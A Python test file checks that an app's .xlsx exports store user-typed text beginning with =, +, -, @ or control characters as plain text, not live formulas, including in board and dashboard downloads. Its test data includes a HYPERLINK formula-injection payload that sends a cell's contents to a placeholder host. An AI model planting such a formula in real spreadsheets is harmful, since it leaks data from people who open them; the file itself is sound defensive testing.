"""Formula injection (issue 15, item 3): a text typed by a user is a text in every .xlsx the app
writes, never a formula a spreadsheet would run; read back it is the same characters."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.support.spreadsheets import table_rows
from workflows.reports.exports import Column, Table, workbook

LEAK = '=HYPERLINK("http://x/?leak="&C5,"a")'
STARTS = [LEAK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes, sheet: str | None = None):
    book = load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.active
    return [cell for row in ws.iter_rows() for cell in row]


def test_every_text_cell_starting_like_a_formula_is_written_as_text():
    table = Table("Bảng", [Column("Tên"), Column("Số", "int")], caption=["=caption"])
    table.rows = [(text, 1) for text in STARTS]
    cells = _cells(workbook([table]))
    written = [c for c in cells if isinstance(c.value, str) and c.value in [*STARTS, "=caption"]]
    assert len(written) == len(STARTS) + 1
    for cell in written:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, cell.coordinate
    numbers = [c for c in cells if c.value == 1]
    assert numbers and all(c.data_type == "n" for c in numbers)


@pytest.mark.parametrize("url", ["/board/export.xlsx", "/dashboard/export.xlsx"])
def test_the_board_spreadsheets_keep_a_formula_title_as_text(api, login_as, url):
    nominator = api("vanthu.cntt")
    proposal_id = nominator.file("LDTT", title=LEAK, nominees=[{"name": "=1+1"}])
    nominator.ok("POST", f"/proposals/{proposal_id}/submit")
    response = login_as("theodoi.btdkt").get(url)
    assert response.status_code == 200
    cells = _cells(response.data) if url.startswith("/board") else [
        c for name in load_workbook(io.BytesIO(response.data)).sheetnames
        for c in _cells(response.data, name)
    ]  # fmt: skip
    assert not [c for c in cells if c.data_type == "f"], "a formula was written"
    if url.startswith("/board"):
        rows = load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)
        body = {row[0]: row for row in table_rows(list(rows), "Số hồ sơ")}
        assert body[proposal_id][1] == LEAK
